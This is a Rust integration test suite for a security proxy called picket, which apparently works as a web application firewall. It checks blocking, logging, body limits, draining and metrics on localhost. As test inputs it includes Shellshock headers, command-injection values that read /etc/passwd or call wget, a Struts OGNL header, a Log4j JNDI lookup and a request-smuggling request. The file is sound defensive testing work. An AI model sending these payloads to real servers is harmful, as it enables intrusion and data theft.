//! `picket proxy` in gateway mode, end to end on 127.0.0.1: the real binary, a real backend
//! (`tests/support/backend.py`), curl and raw sockets as clients. Every process a test starts
//! is stopped by its PID when the test ends, pass or fail.

mod common;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{backend, curl, greeter, Picket};

const CURL_RESET: i32 = 56;

fn check_block_line(v: &serde_json::Value, sig: &str, location: &str, path: &str) {
    assert_eq!(v["event"], "block", "{v}");
    assert_eq!(v["signature"]["id"], sig, "{v}");
    assert_eq!(v["location"], location, "{v}");
    assert_eq!(v["path"], path, "{v}");
    assert_eq!(v["direction"], "inbound");
    assert_eq!(v["proto"], "http1");
    assert_eq!(v["action"], "reset");
    assert_eq!(v["mode"], "protect");
    assert!(v["signature"]["name"]
        .as_str()
        .is_some_and(|s| !s.is_empty()));
    assert!(v["signature"]["severity"].is_string());
    assert!(v["request_id"].as_str().is_some_and(|s| !s.is_empty()));
    assert!(v["src"].as_str().unwrap().starts_with("127.0.0.1:"));
    assert!(v["dst"].as_str().unwrap().starts_with("127.0.0.1:"));
    assert!(v["pack_version"].as_str().is_some_and(|s| !s.is_empty()));
    assert!(v["excerpt"].is_string());
    let ts = v["ts"].as_str().unwrap();
    assert!(
        ts.ends_with('Z') && ts.len() >= 20 && &ts[4..5] == "-" && &ts[10..11] == "T",
        "{ts}"
    );
}

#[test]
fn benign_requests_pass_exactly_as_sent() {
    let b = backend();
    let p = Picket::start(b.addr, &[]);
    let (rc, body) = curl(&[
        "-H",
        "X-Custom-HEADER: MiXeD",
        &p.url("/search?q=bash+away+in+the+gym"),
    ]);
    assert_eq!(rc, 0);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["path"], "/search?q=bash+away+in+the+gym");
    // Header-name case reaches the application untouched.
    assert!(
        v["headers"]
            .as_array()
            .unwrap()
            .iter()
            .any(|h| h == "X-Custom-HEADER"),
        "{v}"
    );
    let json = r#"{"comment":"select specialty hospital; ls 300 lexus"}"#;
    let (rc, body) = curl(&[
        "-H",
        "Content-Type: application/json",
        "--data",
        json,
        &p.url("/api/comments"),
    ]);
    assert_eq!(rc, 0);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (v["method"].as_str(), v["body_len"].as_u64()),
        (Some("POST"), Some(json.len() as u64))
    );
    p.no_more_logs();
}

#[test]
fn attacks_are_reset_and_logged() {
    let b = backend();
    let p = Picket::start(b.addr, &[]);
    let (rc, _) = curl(&[
        "-A",
        "() { :; }; /bin/cat /etc/passwd",
        &p.url("/cgi-bin/status"),
    ]);
    assert_eq!(rc, CURL_RESET);
    check_block_line(
        &p.next_log(),
        "PKT-SHELLSHOCK-FUNC",
        "header:user-agent",
        "/cgi-bin/status",
    );

    let (rc, _) = curl(&[
        "-H",
        "Content-Type: application/json",
        "--data",
        r#"{"host":"10.0.0.1; cat /etc/passwd"}"#,
        &p.url("/api/ping"),
    ]);
    assert_eq!(rc, CURL_RESET);
    let v = p.next_log();
    check_block_line(&v, "PKT-SHELL-CMD", "body:json:string", "/api/ping");
    assert_eq!(v["method"], "POST");

    let (rc, _) = curl(&[
        "-H",
        "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}",
        "--data",
        "x=1",
        &p.url("/struts/upload.action"),
    ]);
    assert_eq!(rc, CURL_RESET);
    check_block_line(
        &p.next_log(),
        "PKT-STRUTS-OGNL",
        "header:content-type",
        "/struts/upload.action",
    );

    // Secrets are not copied into the log.
    let (rc, _) = curl(&[
        "-H",
        "Authorization: Bearer SECRET-TOKEN-123 ${jndi:ldap://203.0.113.9/a}",
        &p.url("/"),
    ]);
    assert_eq!(rc, CURL_RESET);
    let v = p.next_log();
    assert_eq!(v["signature"]["id"], "PKT-LOG4J-JNDI");
    assert!(
        !v["excerpt"].as_str().unwrap().contains("SECRET-TOKEN"),
        "{v}"
    );
}

/// Sends raw bytes and reads until the peer closes or resets; returns what arrived and
/// whether the end was a reset.
fn raw_exchange(addr: SocketAddr, pieces: &[&[u8]], pause: Duration) -> (Vec<u8>, bool) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.set_nodelay(true).unwrap();
    for piece in pieces {
        if s.write_all(piece).is_err() {
            break;
        }
        std::thread::sleep(pause);
    }
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return (got, false),
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return (got, true),
            Err(e) => panic!("read: {e}"),
        }
    }
}

#[test]
fn pipelined_requests_are_judged_one_by_one() {
    let b = backend();
    let p = Picket::start(b.addr, &[]);
    let stream = b"GET /one HTTP/1.1\r\nHost: a\r\n\r\n\
GET /two HTTP/1.1\r\nHost: a\r\n\r\n\
GET /three?file=x%7Ccat%20/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n\
GET /four HTTP/1.1\r\nHost: a\r\n\r\n";
    let (got, reset) = raw_exchange(p.addr, &[stream], Duration::ZERO);
    let text = String::from_utf8_lossy(&got);
    assert!(reset, "the connection must end in a reset: {text}");
    // Only the first two reached the backend; their responses may or may not have been
    // delivered before the reset, but never a response to the third or fourth.
    assert!(
        !text.contains("/three") && !text.contains("/four"),
        "{text}"
    );
    let v = p.next_log();
    check_block_line(&v, "PKT-SHELL-CMD", "arg:file", "/three");
}

#[test]
fn an_attack_in_tiny_writes_is_still_found() {
    let b = backend();
    let p = Picket::start(b.addr, &[]);
    let req = b"POST /api/x HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 30\r\n\r\nip=127.0.0.1%0Awget%20http://x";
    let pieces: Vec<&[u8]> = req.chunks(3).collect();
    let (_, reset) = raw_exchange(p.addr, &pieces, Duration::from_millis(2));
    assert!(reset);
    check_block_line(&p.next_log(), "PKT-SHELL-CMD", "body:form:ip", "/api/x");
}

#[test]
fn slowloris_is_cut_off_while_others_are_served() {
    let b = backend();
    let p = Picket::start(b.addr, &["--request-timeout", "1"]);
    let mut slow = TcpStream::connect(p.addr).unwrap();
    slow.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: 1\r\n")
        .unwrap();
    let started = Instant::now();
    // Another client is served meanwhile.
    let (rc, _) = curl(&[&p.url("/fast")]);
    assert_eq!(rc, 0);
    slow.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut buf = [0u8; 64];
    let n = slow.read(&mut buf).unwrap_or(0);
    assert_eq!(n, 0, "the slow client gets no response");
    let waited = started.elapsed();
    assert!(waited < Duration::from_secs(8), "cut off after {waited:?}");
}

#[test]
fn monitor_mode_forwards_and_logs_an_alert() {
    let b = backend();
    let p = Picket::start(b.addr, &["--mode", "monitor"]);
    let (rc, body) = curl(&["-A", "() { :; }; /bin/id", &p.url("/cgi-bin/x")]);
    assert_eq!(rc, 0);
    assert!(body.contains("/cgi-bin/x"));
    let v = p.next_log();
    assert_eq!(v["event"], "alert");
    assert_eq!(v["mode"], "monitor");
    assert_eq!(v["signature"]["id"], "PKT-SHELLSHOCK-FUNC");
}

#[test]
fn body_over_the_limit_in_both_fail_modes() {
    let b = backend();
    let body = "a=".to_string() + &"x".repeat(4000);
    let closed = Picket::start(
        b.addr,
        &["--body-limit", "1024", "--over-limit", "fail-closed"],
    );
    let (rc, _) = curl(&["--data", &body, &closed.url("/upload")]);
    assert_eq!(rc, CURL_RESET);
    let v = closed.next_log();
    assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
    assert_eq!(v["event"], "block");

    let open = Picket::start(
        b.addr,
        &["--body-limit", "1024", "--over-limit", "fail-open"],
    );
    let (rc, out) = curl(&["--data", &body, &open.url("/upload")]);
    assert_eq!(rc, 0);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["body_len"], 4002);
    let v = open.next_log();
    assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
    assert_eq!(v["event"], "alert");
}

/// An upload far past the body limit (and past what picket would hold) goes through under
/// fail-open: the first KiB is inspected, the rest streams on, by Content-Length and chunked;
/// the connection stays usable, and the next request on it is inspected as usual. Under
/// fail-closed the same upload is reset when it crosses the limit.
#[test]
fn uploads_past_the_limit_stream_under_fail_open() {
    let b = backend();
    let dir = std::env::temp_dir().join(format!("picket-upload-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("big.bin");
    let size = 8 << 20;
    std::fs::write(&file, vec![b'u'; size]).unwrap();
    let data = format!("@{}", file.display());

    let open = Picket::start(
        b.addr,
        &["--body-limit", "1024", "--over-limit", "fail-open"],
    );
    for chunked in [false, true] {
        let mut args = vec!["--data-binary", &data];
        if chunked {
            args.extend(["-H", "Transfer-Encoding: chunked"]);
        }
        let url = open.url("/upload");
        args.push(&url);
        let (rc, out) = curl(&args);
        assert_eq!(rc, 0, "chunked={chunked}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["body_len"], size, "chunked={chunked}");
        let v = open.next_log();
        assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
        assert_eq!(v["event"], "alert");
    }
    // The same connection carries a second request after the streamed one: it is inspected.
    let (first, second) = (open.url("/upload"), open.url("/second"));
    let (rc, out) = curl(&[
        "--data-binary",
        &data,
        &first,
        "--next",
        "-A",
        "() { :; }; /bin/id",
        &second,
    ]);
    assert_eq!(rc, CURL_RESET);
    assert!(out.contains(&format!("\"body_len\": {size}")), "{out}");
    let v = open.next_log();
    assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
    let v = open.next_log();
    assert_eq!(v["signature"]["id"], "PKT-SHELLSHOCK-FUNC");
    assert_eq!(v["path"], "/second");
    drop(open);

    let closed = Picket::start(
        b.addr,
        &["--body-limit", "1024", "--over-limit", "fail-closed"],
    );
    let (rc, _) = curl(&["--data-binary", &data, &closed.url("/upload")]);
    assert!(rc == CURL_RESET || rc == 55, "curl exit {rc}");
    let v = closed.next_log();
    assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
    assert_eq!(v["event"], "block");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn smuggling_attempt_is_reset() {
    let b = backend();
    let p = Picket::start(b.addr, &[]);
    let req = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";
    let (got, reset) = raw_exchange(p.addr, &[req], Duration::ZERO);
    assert!(reset && got.is_empty());
    let v = p.next_log();
    assert_eq!(v["signature"]["id"], "PKT-PROTO-CL-TE");
    assert_eq!(v["location"], "head");
}

#[test]
fn sigterm_drains_and_exits() {
    let b = backend();
    let mut p = Picket::start(b.addr, &["--drain-grace", "2"]);
    let (rc, _) = curl(&[&p.url("/")]);
    assert_eq!(rc, 0);
    let pid = p.proc.0.id().to_string();
    assert!(Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .unwrap()
        .success());
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(status) = p.proc.0.try_wait().unwrap() {
            assert!(status.success(), "{status}");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "picket did not exit after SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn admin_endpoint_reports_health_pack_and_metrics() {
    let b = backend();
    let p = Picket::start(b.addr, &["--admin-listen", "127.0.0.1:0"]);
    let admin = p.admin.expect("admin address in the start-up log");
    let get = |path: &str| curl(&["-f", &format!("http://{admin}{path}")]);
    assert_eq!(get("/healthz"), (0, "ok\n".to_string()));
    assert_eq!(get("/readyz"), (0, "ready\n".to_string()));
    let (rc, pack) = get("/pack");
    assert_eq!(rc, 0);
    let pack: serde_json::Value = serde_json::from_str(&pack).unwrap();
    assert_eq!(pack["name"], "picket-default");
    assert!(pack["signatures"].as_u64().unwrap() > 40);
    assert!(pack["exclusions"].is_array());

    assert_eq!(curl(&[&p.url("/ok")]).0, 0);
    assert_eq!(
        curl(&["-A", "() { :; }; /bin/id", &p.url("/cgi-bin/x")]).0,
        CURL_RESET
    );
    let _ = p.next_log();
    let (rc, metrics) = get("/metrics");
    assert_eq!(rc, 0);
    for expected in [
        r#"picket_requests_total{direction="inbound",proto="http1",verdict="allow"} 1"#,
        r#"picket_requests_total{direction="inbound",proto="http1",verdict="block"} 1"#,
        r#"picket_findings_total{signature="PKT-SHELLSHOCK-FUNC",event="block"} 1"#,
        r#"picket_pack_info{name="picket-default""#,
        "picket_inspection_seconds_bucket",
        "picket_open_connections",
        "picket_block_log_dropped_total 0",
    ] {
        assert!(
            metrics.contains(expected),
            "missing {expected} in\n{metrics}"
        );
    }
    assert_eq!(get("/nope").0, 22, "unknown paths are 404");
}

/// Reads until `want` bytes arrived (or the read times out).
fn read_exact_within(s: &mut TcpStream, want: usize, within: Duration) -> Vec<u8> {
    s.set_read_timeout(Some(within)).unwrap();
    let mut got = vec![0u8; want];
    let mut n = 0;
    while n < want {
        match s.read(&mut got[n..]) {
            Ok(0) | Err(_) => break,
            Ok(k) => n += k,
        }
    }
    got.truncate(n);
    got
}

#[test]
fn server_first_protocols_do_not_stall_and_pass_opaque() {
    let g = greeter();
    // The greeter's port is not in the opaque list: detection runs, and must not hold back
    // the greeting while it waits for the client.
    let p = Picket::start(
        g.addr,
        &[
            "--detect-timeout-ms",
            "200",
            "--admin-listen",
            "127.0.0.1:0",
        ],
    );
    let mut s = TcpStream::connect(p.addr).unwrap();
    let started = Instant::now();
    let greeting = read_exact_within(&mut s, 19, Duration::from_secs(5));
    assert_eq!(greeting, b"220 greeter ready\r\n");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "greeting took {:?}",
        started.elapsed()
    );
    std::thread::sleep(Duration::from_millis(400));
    s.write_all(b"EHLO mail.example.org\r\n").unwrap();
    assert_eq!(
        read_exact_within(&mut s, 23, Duration::from_secs(5)),
        b"EHLO mail.example.org\r\n"
    );
    // TLS is relayed as opaque TCP until picket terminates mTLS.
    let mut t = TcpStream::connect(p.addr).unwrap();
    let _ = read_exact_within(&mut t, 19, Duration::from_secs(5));
    let hello = b"\x16\x03\x01\x00\x05hello";
    t.write_all(hello).unwrap();
    assert_eq!(
        read_exact_within(&mut t, hello.len(), Duration::from_secs(5)),
        hello
    );
    drop((s, t));
    let (rc, metrics) = curl(&["-f", &format!("http://{}/metrics", p.admin.unwrap())]);
    assert_eq!(rc, 0);
    for expected in [
        r#"picket_detected_connections_total{protocol="opaque",handling="opaque"} 1"#,
        r#"picket_detected_connections_total{protocol="tls",handling="opaque"} 1"#,
        "picket_protocol_detect_slow_total 1",
    ] {
        assert!(
            metrics.contains(expected),
            "missing {expected} in\n{metrics}"
        );
    }
}

#[test]
fn a_client_that_waits_out_detection_is_still_inspected() {
    let b = backend();
    let p = Picket::start(b.addr, &["--detect-timeout-ms", "100"]);
    let mut s = TcpStream::connect(p.addr).unwrap();
    std::thread::sleep(Duration::from_millis(400));
    s.write_all(b"GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n")
        .unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut buf = [0u8; 64];
    let r = s.read(&mut buf);
    assert!(
        matches!(&r, Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset),
        "expected a reset, got {r:?}"
    );
    assert_eq!(p.next_log()["signature"]["id"], "PKT-SHELLSHOCK-FUNC");
}

#[test]
fn expect_100_continue_does_not_wait_for_a_timeout() {
    let b = backend();
    let p = Picket::start(b.addr, &[]);
    // Told to wait 30 s for the 100, curl would run into --max-time (10 s) if picket held the
    // head until the body came.
    let expect = ["-H", "Expect: 100-continue", "--expect100-timeout", "30"];
    let body = "comment=".to_string() + &"word ".repeat(600);
    let (rc, out) = curl(&[&expect[..], &["--data", &body, &p.url("/form")]].concat());
    assert_eq!(rc, 0);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["body_len"].as_u64(), Some(body.len() as u64));
    assert!(
        v["headers"]
            .as_array()
            .unwrap()
            .iter()
            .any(|h| h == "Expect"),
        "{v}"
    );
    // The body is still inspected before it is forwarded.
    let attack = body + "&host=1.2.3.4%3Bcat%20/etc/passwd";
    let (rc, _) = curl(&[&expect[..], &["--data", &attack, &p.url("/form")]].concat());
    assert_eq!(rc, CURL_RESET);
    assert_eq!(p.next_log()["location"], "body:form:host");
}

#[test]
fn http_403_when_configured_and_upstream_timing_is_measured() {
    let b = backend();
    let p = Picket::start(
        b.addr,
        &[
            "--block-response",
            "http-403",
            "--admin-listen",
            "127.0.0.1:0",
        ],
    );
    let (rc, out) = curl(&["-w", "%{http_code}", "-o", "/dev/null", &p.url("/ok")]);
    assert_eq!((rc, out.as_str()), (0, "200"));
    let (rc, out) = curl(&[
        "-w",
        "%{http_code}",
        "-o",
        "/dev/null",
        "-H",
        "User-Agent: () { :; }; /bin/cat /etc/passwd",
        &p.url("/cgi-bin/x"),
    ]);
    assert_eq!((rc, out.as_str()), (0, "403"));
    let v = p.next_log();
    assert_eq!(v["action"], "http_403");
    assert_eq!(v["event"], "block");
    assert_eq!(v["path"], "/cgi-bin/x");
    // A refused request with a body the client is still sending gets the 403 too (the close
    // lingers instead of resetting the response away).
    let body = "x".repeat(64 << 10);
    let (rc, out) = curl(&[
        "-w",
        "%{http_code}",
        "-o",
        "/dev/null",
        "-H",
        "User-Agent: () { :; }; /bin/id",
        "--data-binary",
        &body,
        &p.url("/upload"),
    ]);
    assert_eq!((rc, out.as_str()), (0, "403"));
    assert_eq!(p.next_log()["action"], "http_403");
    let (_, metrics) = curl(&["-f", &format!("http://{}/metrics", p.admin.unwrap())]);
    let count: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("picket_upstream_response_seconds_count "))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    assert!(count >= 1, "{metrics}");
}

#[test]
fn sigterm_closes_idle_keep_alive_connections_at_once() {
    let b = backend();
    let mut p = Picket::start(b.addr, &["--drain-grace", "30"]);
    let mut s = TcpStream::connect(p.addr).unwrap();
    s.write_all(b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while !String::from_utf8_lossy(&got).contains("\r\n\r\n") {
        let n = s.read(&mut buf).unwrap();
        assert!(n > 0);
        got.extend_from_slice(&buf[..n]);
    }
    let started = Instant::now();
    let pid = p.proc.0.id().to_string();
    assert!(Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .unwrap()
        .success());
    // The idle keep-alive connection is closed by the drain, not held for the grace period.
    loop {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(_) => continue,
            Err(e) => panic!("connection not closed by the drain: {e}"),
        }
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    while p.proc.0.try_wait().unwrap().is_none() {
        assert!(Instant::now() < deadline, "picket did not exit");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(started.elapsed() < Duration::from_secs(10));
}

#[test]
fn app_probes_are_answered_on_the_admin_port() {
    let b = backend();
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let closed_port = closed.local_addr().unwrap().port();
    drop(closed);
    let probes = serde_json::json!({
        "/app-health/web/livez": {"httpGet": {"path": "/healthz", "port": b.addr.port(),
            "httpHeaders": [{"name": "X-Probe", "value": "1"}]}},
        "/app-health/web/readyz": {"tcpSocket": {"port": b.addr.port()}},
        "/app-health/web/startupz": {"tcpSocket": {"port": closed_port}},
    });
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_picket"));
    cmd.args([
        "proxy",
        "--listen",
        "127.0.0.1:0",
        "--upstream",
        &b.addr.to_string(),
        "--admin-listen",
        "127.0.0.1:0",
    ])
    .env("PICKET_APP_PROBES", probes.to_string());
    let p = Picket::spawn(cmd);
    let admin = p.admin.unwrap();
    let code = |path: &str| {
        curl(&[
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            &format!("http://{admin}{path}"),
        ])
        .1
    };
    assert_eq!(code("/app-health/web/livez"), "200");
    assert_eq!(code("/app-health/web/readyz"), "200");
    assert_eq!(code("/app-health/web/startupz"), "503");
    assert_eq!(code("/app-health/other/livez"), "404");

    // `picket wait-ready` returns at once against a ready picket, and fails in time against
    // nothing.
    let status = Command::new(env!("CARGO_BIN_EXE_picket"))
        .args([
            "wait-ready",
            "--admin",
            &admin.to_string(),
            "--timeout",
            "5s",
        ])
        .status()
        .unwrap();
    assert!(status.success());
    let started = Instant::now();
    let status = Command::new(env!("CARGO_BIN_EXE_picket"))
        .args([
            "wait-ready",
            "--admin",
            &format!("127.0.0.1:{closed_port}"),
            "--timeout",
            "1s",
        ])
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(1));
    assert!(started.elapsed() < Duration::from_secs(5));

    // A malformed probe list is refused at start-up.
    let out = Command::new(env!("CARGO_BIN_EXE_picket"))
        .args([
            "proxy",
            "--listen",
            "127.0.0.1:0",
            "--upstream",
            "127.0.0.1:9",
        ])
        .env(
            "PICKET_APP_PROBES",
            "{\"/elsewhere\": {\"tcpSocket\": {\"port\": 1}}}",
        )
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

/// A client that half-closes while a large response is on its way gets exactly the response:
/// picket finishing the relay while a write to the client is blocked must not begin that write
/// again (its first bytes would arrive twice).
#[test]
fn a_large_response_reaches_a_half_closed_slow_client_intact() {
    const BODY: usize = 16 << 20;
    let body: Vec<u8> = (0..BODY).map(|i| (i % 251) as u8).collect();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let upstream = listener.local_addr().unwrap();
    let served = body.clone();
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut head = Vec::new();
        let mut byte = [0u8; 1];
        while !head.ends_with(b"\r\n\r\n") && s.read(&mut byte).unwrap() == 1 {
            head.push(byte[0]);
        }
        let reply = format!(
            "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n",
            served.len()
        );
        s.write_all(reply.as_bytes()).unwrap();
        let _ = s.write_all(&served);
    });
    let p = Picket::start(upstream, &[]);
    let mut c = TcpStream::connect(p.addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    c.write_all(b"GET /big HTTP/1.1\r\nHost: a\r\n\r\n")
        .unwrap();
    // The response fills the socket buffers and picket's write to us blocks; only then does
    // picket see the end of the request stream.
    std::thread::sleep(Duration::from_millis(600));
    c.shutdown(std::net::Shutdown::Write).unwrap();
    std::thread::sleep(Duration::from_millis(400));
    let mut got = Vec::new();
    c.read_to_end(&mut got).unwrap();
    let split = got
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a response head")
        + 4;
    assert!(got.starts_with(b"HTTP/1.1 200 OK\r\n"));
    assert_eq!(got.len() - split, BODY, "body length");
    assert!(got[split..] == body[..], "body bytes differ");
    server.join().unwrap();
}

/// `--worker-threads 1` (what a sidecar with one CPU gets by default) runs the single-threaded
/// runtime: a client that stalls mid-head holds up nobody, HTTP/1 and HTTP/2 clients are
/// served side by side, and an attack is still reset and logged.
#[test]
fn one_worker_thread_serves_everyone_and_still_blocks() {
    let b = backend();
    let h2 = common::h2_backend::H2Backend::start();
    let p = Picket::start(b.addr, &["--worker-threads", "1"]);
    let p2 = Picket::start(h2.addr, &["--worker-threads", "1"]);
    // Half a head, then silence.
    let mut stalled = TcpStream::connect(p.addr).unwrap();
    stalled.write_all(b"GET / HTTP/1.1\r\nHost: a\r\n").unwrap();
    let clients: Vec<_> = (0..8)
        .map(|i| {
            let url = p.url(&format!("/page/{i}"));
            std::thread::spawn(move || curl(&["-fsS", &url]))
        })
        .collect();
    for c in clients {
        let (rc, body) = c.join().unwrap();
        assert_eq!(rc, 0, "{body}");
        assert!(body.contains("/page/"), "{body}");
    }
    let (rc, body) = curl(&["-fsS", "--http2-prior-knowledge", &p2.url("/h2")]);
    assert_eq!(rc, 0, "{body}");
    let (rc, _) = curl(&["-A", "() { :; }; /bin/id", &p.url("/cgi-bin/x")]);
    assert_eq!(rc, CURL_RESET);
    check_block_line(
        &p.next_log(),
        "PKT-SHELLSHOCK-FUNC",
        "header:user-agent",
        "/cgi-bin/x",
    );
    drop(stalled);
}
